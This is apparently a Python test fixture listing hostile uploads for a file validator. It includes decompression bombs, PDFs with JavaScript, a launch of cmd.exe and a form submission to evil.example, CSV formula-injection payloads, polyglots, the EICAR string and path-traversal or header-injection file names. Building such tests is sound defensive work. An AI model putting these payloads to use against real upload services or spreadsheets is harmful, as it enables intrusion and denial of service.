"""Files that somebody who means harm would upload, made in code: name, content, and the reason each is refused for."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from origination.files.scanning import TEST_VIRUS
from tests.factories.files import CSV, bomb, chunk, make_jpeg, make_pdf, make_png, packed, stream

KIB, MIB = 1024, 1024 * 1024
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + TEST_VIRUS + b"!$H+H*"


@dataclass(frozen=True)
class Hostile:
    """One upload: what it is called, what is in it, and the code of its refusal."""

    title: str
    name: str
    make: Callable[[], bytes]
    code: str


def archive(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in entries:
            zipped.writestr(name, content)
    return out.getvalue()


def office(*extra: tuple[str, bytes]) -> bytes:
    return archive(("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>"), *extra)


def encrypted_pdf() -> bytes:
    entry = b"/Filter /Standard /V 1 /R 2 /P -44 /O <" + b"00" * 32 + b"> /U <" + b"11" * 32 + b">"
    return make_pdf(objects=[b"<< " + entry + b" >>"], trailer=b"/Encrypt 10 0 R /ID [<00> <00>]")


def pdf_with_hidden_script() -> bytes:
    """The action stands in a compressed part, its name written with an escape."""
    inner = b"11 0 << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"
    return make_pdf(catalog=b"/OpenAction 11 0 R", objects=[packed(inner, b"/Type /ObjStm /N 1 /First 5")])


def pdf_with_odd_object_stream() -> bytes:
    inner = b"11 0 << /S /JavaScript >>".hex().encode() + b">"
    return make_pdf(objects=[stream(inner, b"/Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode")])


SCRIPT = b"11 0 << /S /JavaScript >>"


def pdf_with_objects(content: bytes, entries: bytes) -> bytes:
    return make_pdf(
        objects=[stream(content, b"/Type /ObjStm /N 1 /First 5 " + entries), b"null", b"/ASCIIHexDecode"]
    )


def pdf_with_differences() -> bytes:
    """Each row of the objects is written as its difference from the row above it."""
    text = SCRIPT + bytes(-len(SCRIPT) % 8)
    rows = [text[place : place + 8] for place in range(0, len(text), 8)]
    written = b"".join(
        b"\x02" + bytes((new - old) % 256 for new, old in zip(row, above, strict=True))
        for row, above in zip(rows, [bytes(8), *rows], strict=False)
    )
    entries = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>"
    return pdf_with_objects(zlib.compress(written), entries)


def pdf_with_paper_clip() -> bytes:
    note = b"/Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) /EF << /F 10 0 R >> >>"
    return make_pdf(page=b"/Annots [<< /Type /Annot " + note + b" >>]", objects=[stream(b"MZ")])


def pdf_with_model() -> bytes:
    note = b"/Subtype /3D /Rect [0 0 9 9] /3DD 10 0 R"
    model = stream(b"U3D", b"/Type /3D /Subtype /U3D /OnInstantiate 4 0 R")
    return make_pdf(page=b"/Annots [<< /Type /Annot " + note + b" >>]", objects=[model])


def slow_pdf() -> bytes:
    """A page of three million half transparent strokes."""
    strokes = packed(b"/G gs 0 0 m 600 700 l 30 w S\n" * 3_000_000)
    return make_pdf(objects=[strokes]).replace(b"/Contents 4 0 R", b"/Contents 10 0 R")


def pdf_with_huge_picture() -> bytes:
    entries = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8"
    return make_pdf(objects=[packed(b"\x00" * 1000, entries)])


def pdf_with_bombs() -> bytes:
    """None of them too large by itself."""
    one = bomb(90)
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(one) + one + b"\nendstream"
    return make_pdf(objects=[body, body, body])


def one_bomb(entries: bytes = b"") -> bytes:
    content = bomb(129)
    return make_pdf(
        objects=[
            b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n" % (len(content), entries)
            + content
            + b"\nendstream"
        ]
    )


def twice_packed() -> bytes:
    content = zlib.compress(bomb(50), 9)
    entries = b"/Length %d /Filter [/FlateDecode /FlateDecode]" % len(content)
    return make_pdf(objects=[b"<< " + entries + b" >>\nstream\n" + content + b"\nendstream"])


def png_text_bomb() -> bytes:
    return make_png(chunks=[chunk(b"zTXt", b"Comment\x00\x00" + bomb(100))])


def png_bomb() -> bytes:
    """A few KiB that claim 60,000 x 60,000 pixels."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", bomb(20)) + chunk(b"IEND", b"")


def moving_png() -> bytes:
    animation = [
        chunk(b"acTL", struct.pack(">II", 2, 0)),
        chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 40, 30, 0, 0, 1, 10, 0, 0)),
    ]
    picture = make_png(chunks=animation)
    data = zlib.compress(b"".join(b"\x00" + b"\x00" * 40 for _ in range(30)))
    second = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 1, 40, 30, 0, 0, 1, 10, 0, 0))
    end = chunk(b"IEND", b"")
    return picture.removesuffix(end) + second + chunk(b"fdAT", struct.pack(">I", 2) + data) + end


def jpeg_with_false_size() -> bytes:
    """The header claims 65,500 x 65,500 pixels."""
    picture = bytearray(make_jpeg())
    place = picture.index(b"\xff\xc0")
    picture[place + 5 : place + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(picture)


def _pdf(title: str, make: Callable[[], bytes], code: str) -> Hostile:
    return Hostile(f"PDF {title}", "statement.pdf", make, code)


def _named(title: str, name: str) -> Hostile:
    return Hostile(f"name {title}", name, make_pdf, "unsafe_name")


def _other(title: str, name: str, content: bytes) -> Hostile:
    return Hostile(title, name, lambda: content, "unsupported_type")


def _table(title: str, content: bytes, code: str) -> Hostile:
    return Hostile(f"CSV {title}", "transactions.csv", lambda: content, code)


HOSTILE: list[Hostile] = [
    Hostile("empty", "statement.pdf", lambda: b"", "empty"),
    Hostile("too large", "statement.pdf", lambda: make_pdf() + bytes(25 * MIB), "too_large"),
    # What people are tricked into opening.
    _other("Windows program", "statement.exe", b"MZ\x90\x00\x03" + bytes(500)),
    _other("Windows program called PDF", "statement.pdf", b"MZ\x90\x00\x03" + bytes(500)),
    _other("Linux program", "statement.pdf", b"\x7fELF\x02\x01\x01" + bytes(500)),
    _other("shell script", "statement.csv", b"#!/bin/sh\nrm -rf a, b\nrm c, d\n"),
    _other("Windows shortcut", "statement.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100)),
    _other("web page", "statement.html", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    _other("web page called CSV", "statement.csv", b"<html>,\n<script>alert(1)</script>,\n"),
    _other(
        "SVG with a script", "logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"
    ),
    _other("XML with entities", "data.xml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"),
    _other("Office file with macros", "budget.xlsm", office(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"))),
    _other("Office file called CSV", "budget.csv", office()),
    _other("old Office file", "budget.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    _other(
        "archive that leaves its folder", "documents.zip", archive(("../../etc/cron.d/job", b"* * * * *"))
    ),
    _other("archive bomb", "documents.zip", archive(("zeros", bytes(20 * MIB)))),
    _other("GZIP bomb", "statement.csv.gz", b"\x1f\x8b\x08\x00" + bomb(20)),
    _other("RTF with an object", "letter.rtf", rb"{\rtf1{\object\objocx{\*\objdata 0105}}}"),
    _other("PostScript program", "statement.ps", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"),
    _other("moving GIF", "photo.gif", b"GIF89a" + bytes(100)),
    _other("HEIC photo", "photo.jpg", b"\x00\x00\x00\x18ftypheic" + bytes(100)),
    _other("junk before a PDF", "statement.pdf", b"GIF?junk\n" + make_pdf()),
    # PDF
    _pdf("cut off", lambda: make_pdf(pages=3)[:-400], "truncated"),
    _pdf("with its head only", lambda: b"%PDF-1.7\n%%EOF\n", "unreadable"),
    _pdf("of garbage", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF", "unreadable"),
    _pdf("without a page", lambda: make_pdf(pages=0), "unreadable"),
    _pdf("encrypted", encrypted_pdf, "encrypted"),
    _pdf(
        "with JavaScript",
        lambda: make_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "active_content",
    ),
    _pdf("with JavaScript in a compressed part", pdf_with_hidden_script, "active_content"),
    _pdf("with objects in an odd encoding", pdf_with_odd_object_stream, "unreadable"),
    _pdf(
        "with objects whose encoding stands elsewhere",
        lambda: pdf_with_objects(SCRIPT.hex().encode() + b">", b"/Filter 12 0 R"),
        "unreadable",
    ),
    _pdf(
        "with objects of two encodings",
        lambda: pdf_with_objects(
            SCRIPT.hex().encode() + b">", b"/Filter /FlateDecode /Filter /ASCIIHexDecode"
        ),
        "unreadable",
    ),
    _pdf("with objects written as differences", pdf_with_differences, "unreadable"),
    _pdf("with a file pinned to a page", pdf_with_paper_clip, "active_content"),
    _pdf("with a model that runs programs", pdf_with_model, "active_content"),
    _pdf("that takes for ever to draw", slow_pdf, "too_demanding"),
    _pdf(
        "that starts a program",
        lambda: make_pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "active_content",
    ),
    _pdf(
        "with a file inside",
        lambda: make_pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>",
            objects=[
                b"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>",
                stream(b"MZ", b"/Type /EmbeddedFile"),
            ],
        ),
        "active_content",
    ),
    _pdf(
        "that sends a form",
        lambda: make_pdf(page=b"/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>"),
        "active_content",
    ),
    _pdf("that unpacks without end", one_bomb, "decompression_bomb"),
    _pdf(
        "with a picture that unpacks without end", lambda: one_bomb(b"/Subtype /Image"), "decompression_bomb"
    ),
    _pdf("that unpacks without end in parts", pdf_with_bombs, "decompression_bomb"),
    _pdf("compressed twice", twice_packed, "decompression_bomb"),
    _pdf("with a picture of 3.6 billion pixels", pdf_with_huge_picture, "too_many_pixels"),
    _pdf("with a page of 40 km", lambda: make_pdf(box="0 0 99999999 99999999"), "too_many_pixels"),
    _pdf("of 201 pages", lambda: make_pdf(pages=201), "too_many_pages"),
    _pdf("and ZIP at once", lambda: make_pdf() + archive(("a.exe", b"MZ")), "polyglot"),
    _pdf("and RAR at once", lambda: make_pdf() + b"Rar!\x1a\x07\x00" + bytes(100), "polyglot"),
    _pdf("and web page at once", lambda: b"%PDF-1.7\n<html><script>1</script>\n" + make_pdf(), "polyglot"),
    _pdf("with a script behind its end", lambda: make_pdf() + b"<script>alert(1)</script>", "polyglot"),
    _pdf("with the test virus", lambda: make_pdf(objects=[stream(EICAR)]), "malware"),
    # Pictures
    Hostile("PNG of 3.6 billion pixels", "scan.png", png_bomb, "too_many_pixels"),
    Hostile("PNG whose text unpacks without end", "scan.png", png_text_bomb, "decompression_bomb"),
    Hostile("PNG cut off", "scan.png", lambda: make_png(200, 200)[:-30], "truncated"),
    Hostile(
        "PNG with too little in it",
        "scan.png",
        lambda: make_png(rows=zlib.compress(b"\x00\xff")),
        "truncated",
    ),
    Hostile("PNG and ZIP at once", "scan.png", lambda: make_png() + archive(("a.exe", b"MZ")), "polyglot"),
    Hostile("PNG that moves", "scan.png", moving_png, "unsupported_type"),
    Hostile(
        "PNG with PHP in a text",
        "scan.png",
        lambda: make_png(chunks=[chunk(b"tEXt", b"a\x00<?php 1")]),
        "polyglot",
    ),
    Hostile(
        "JPEG with a script in its comment",
        "photo.jpg",
        lambda: make_jpeg(comment=b"<script>1</script>"),
        "polyglot",
    ),
    Hostile("JPEG of 4 billion pixels", "photo.jpg", jpeg_with_false_size, "too_many_pixels"),
    Hostile("JPEG cut off", "photo.jpg", lambda: make_jpeg(400, 400)[:900], "truncated"),
    Hostile("JPEG and ZIP at once", "photo.jpg", lambda: make_jpeg() + archive(("a.jar", b"PK")), "polyglot"),
    Hostile(
        "JPEG and 7z at once",
        "photo.jpg",
        lambda: make_jpeg() + b"maker's data7z\xbc\xaf\x27\x1c" + bytes(100),
        "polyglot",
    ),
    Hostile("PNG of one endless row", "scan.png", lambda: make_png(30_001, 1), "too_many_pixels"),
    Hostile(
        "JPEG of garbage",
        "photo.jpg",
        lambda: b"\xff\xd8\xff\xe0" + b"\x07" * 500 + b"\xff\xd9",
        "unreadable",
    ),
    # Tables
    _table("with a command", b"date,text\n2026-02-01,=cmd|'/C calc'!A0\n", "formula"),
    _table(
        "with a link formula", b'date,text\n2026-02-01,"=HYPERLINK(""https://evil.example"")"\n', "formula"
    ),
    _table("with a hidden formula", b"date,text\n2026-02-01, +SUM(1)*cmd|' /C calc'!A0\n", "formula"),
    _table(
        "with a command behind another mark",
        b"date,text\n2026-02-01,shop;=cmd|'/C calc'!A0\n",
        "formula",
    ),
    _table(
        "with a command behind a wide sign", "date,text\n2026-02-01,＝cmd|'/C calc'!A0\n".encode(), "formula"
    ),
    _table(
        "with a link formula and a blank",
        b'date,text\n2026-02-01,"=HYPERLINK (""https://evil.example"")"\n',
        "formula",
    ),
    _table("that turns an amount", "date,amount\n2026-02-01,\u202e00.21\n".encode(), "garbled_table"),
    _table("with a script", CSV + b"a,b\n" * 300 + b"2026-02-01,<script>alert(1)</script>\n", "polyglot"),
    _table("with NUL", b"date,text\n2026-02-01,\x00\n", "unsupported_type"),
    _table(
        "with binary rows further down", CSV + b"a,b\n" * 30_000 + b"\xff\xfe\x00\x01,b\n", "unsupported_type"
    ),
    _table("of one endless line", b"date,text\n" + b"a" * MIB, "garbled_table"),
    _table("of 5,000 columns", b"a," * 5000 + b"\n" + b"1," * 5000 + b"\n", "garbled_table"),
    _table("of rows without end", b"a,b\n" + b"1,2\n" * 100_000, "too_many_rows"),
    _table("with the test virus", CSV + b"2026-02-04," + EICAR + b",1\n", "malware"),
    # Names
    _named("that climbs", "../../etc/passwd.pdf"),
    _named("that climbs in Windows", "..\\..\\windows\\system.pdf"),
    _named("with an absolute address", "/etc/passwd.pdf"),
    _named("with a drive", "C:statement.pdf"),
    _named("with a hidden stream", "statement.pdf:payload.exe"),
    _named("with NUL", "statement.pdf\x00.exe"),
    _named("with an encoded NUL", "statement.exe%00.pdf"),
    _named("that turns the direction", "statement\u202efdp.exe"),
    _named("with an invisible character", "state\u200bment.pdf"),
    _named("with a line break", "statement.pdf\r\nContent-Type: text/html"),
    _named("with a line break in code", "statement%0d%0aX.pdf"),
    _named("that climbs in code of code", "%252e%252e%252fstatement.pdf"),
    _named("of a Windows device", "CON.pdf"),
    _named("of a Windows device and a blank", "CON .pdf"),
    _named("of letters without a shape", "\u3164\u3164.pdf"),
    _named("without end", "a" * 5000 + ".pdf"),
    _named("of dots only", "..."),
    Hostile("extension of a program", "statement.pdf.exe", make_pdf, "wrong_extension"),
    Hostile("extension of another type", "statement.png", make_pdf, "wrong_extension"),
]
